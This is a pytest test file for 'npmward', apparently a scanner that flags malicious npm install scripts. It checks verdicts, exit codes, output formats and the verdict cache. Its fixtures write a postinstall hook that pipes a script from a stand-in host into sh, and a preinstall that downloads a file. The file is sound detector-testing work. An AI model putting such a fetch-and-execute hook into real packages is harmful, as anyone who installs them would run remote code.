"""`npmward scan` end to end: verdicts, exit codes, formats, errors, the verdict cache."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from npmward.cli import app
from registry.registry_server import pack

runner = CliRunner()


def make_package(root: Path, name: str, scripts: dict | None = None, files: dict[str, str] | None = None) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    manifest = {"name": name, "version": "1.0.0", "main": "index.js"}
    if scripts:
        manifest["scripts"] = scripts
    (root / "package.json").write_text(json.dumps(manifest, indent=2))
    (root / "index.js").write_text("module.exports = function add(a, b) { return a + b }\n")
    for rel, text in (files or {}).items():
        (root / rel).write_text(text)
    return root



@pytest.fixture()
def evil(tmp_path) -> Path:
    return make_package(tmp_path / "evil", "evil-pkg", {"postinstall": "curl -s https://x.example/i.sh | sh"})


@pytest.fixture()
def good(tmp_path) -> Path:
    return make_package(tmp_path / "good", "good-pkg", {"install": "node-gyp rebuild"})


def scan(*args: str):
    return runner.invoke(app, ["scan", "--jobs", "1", *args])


def test_malicious_directory_exits_1_with_evidence(evil):
    result = scan(str(evil), "--format", "json")
    assert result.exit_code == 1, result.output
    data = json.loads(result.stdout)
    (pkg,) = data["packages"]
    assert (pkg["name"], pkg["version"], pkg["verdict"]) == ("evil-pkg", "1.0.0", "malicious")
    finding = next(f for f in pkg["findings"] if f["rule"] == "install-script/fetch-and-execute")
    assert finding["file"] == "package.json" and finding["line"] and "curl" in finding["snippet"]


def test_clean_package_exits_0(good):
    result = scan(str(good), "--format", "json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["packages"][0]["verdict"] == "clean"


def test_fail_on_never_and_suspicious(tmp_path, evil):
    assert scan(str(evil), "--fail-on", "never").exit_code == 0
    sus = make_package(tmp_path / "sus", "sus-pkg", {"preinstall": "curl -o /tmp/x https://dl.example/x"})
    assert scan(str(sus), "--fail-on", "malicious", "-f", "json").exit_code == 0
    result = scan(str(sus), "--fail-on", "suspicious", "-f", "json")
    assert json.loads(result.stdout)["packages"][0]["verdict"] == "suspicious"
    assert result.exit_code == 1


def test_tarball_target_and_output_file(tmp_path, evil):
    tgz = pack(evil, tmp_path / "evil.tgz")
    out = tmp_path / "report.sarif"
    result = scan(str(tgz), "--format", "sarif", "--output", str(out))
    assert result.exit_code == 1
    sarif = json.loads(out.read_text())
    assert any(r["ruleId"] == "install-script/fetch-and-execute" for r in sarif["runs"][0]["results"])
    assert result.stdout == ""


@pytest.mark.parametrize("target, message", [
    ("./does/not/exist.tgz", "no such file"),
    ("Not A Valid Name!", "not a file, a directory or a valid npm package name"),
])
def test_unreadable_targets_exit_2_with_reason(target, message):
    result = scan(target, "--format", "json")
    assert result.exit_code == 2
    data = json.loads(result.stdout)
    assert data["packages"] == [] and message in data["errors"][0]["message"]
    assert message in result.stderr


def test_corrupt_tarball_is_an_error_not_a_clean_report(tmp_path, good):
    broken = tmp_path / "broken.tgz"
    broken.write_bytes(pack(good, tmp_path / "g.tgz").read_bytes()[:100])
    result = scan(str(broken), str(good), "--format", "json")
    assert result.exit_code == 2
    data = json.loads(result.stdout)
    assert [p["name"] for p in data["packages"]] == ["good-pkg"]
    assert data["errors"][0]["target"] == str(broken)


def test_directory_without_package_is_an_error(tmp_path):
    (tmp_path / "empty").mkdir()
    result = scan(str(tmp_path / "empty"))
    assert result.exit_code == 2 and "not a package or project directory" in result.stderr


def test_verdicts_are_cached_by_integrity(tmp_path, evil, monkeypatch):
    import npmward.engine as engine

    tgz = pack(evil, tmp_path / "evil.tgz")
    first = json.loads(scan(str(tgz), "-f", "json").stdout)
    started = []
    original = engine._Worker.__init__
    monkeypatch.setattr(engine._Worker, "__init__", lambda self, *a: started.append(1) or original(self, *a))
    second = json.loads(scan(str(tgz), "-f", "json").stdout)
    assert started == [] and second["packages"] == first["packages"]  # no code read again
    third = json.loads(scan(str(tgz), "-f", "json", "--no-cache").stdout)
    assert started == [1] and third["packages"] == first["packages"]


def test_parallel_workers_give_the_same_report(tmp_path, evil, good):
    targets = [str(pack(evil, tmp_path / "e.tgz")), str(pack(good, tmp_path / "g.tgz"))]
    serial = json.loads(runner.invoke(app, ["scan", "-j", "1", "-f", "json", "--no-cache", *targets]).stdout)
    parallel = json.loads(runner.invoke(app, ["scan", "-j", "2", "-f", "json", "--no-cache", *targets]).stdout)
    assert serial["packages"] == parallel["packages"]


def test_console_script_end_to_end(evil):
    proc = subprocess.run([sys.executable, "-m", "npmward", "scan", str(evil)], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 1
    assert "MALICIOUS" in proc.stdout and "evil-pkg@1.0.0" in proc.stdout
    assert "Traceback" not in proc.stderr


@pytest.mark.live
def test_live_registry_package_is_clean_and_verified():
    result = scan("is-number@7.0.0", "-f", "json")
    assert result.exit_code == 0, result.output
    (pkg,) = json.loads(result.stdout)["packages"]
    assert pkg["name"] == "is-number" and pkg["version"] == "7.0.0" and pkg["verdict"] == "clean"
    assert pkg["integrity"] == "sha512-41Cifkg6e8TylSpdtTpeLVMqvSBEVzTttHvERD741+pnZ8ANv0004MRL43QKPDlK9cGvNp6NZWZUBlbGXYxxng=="
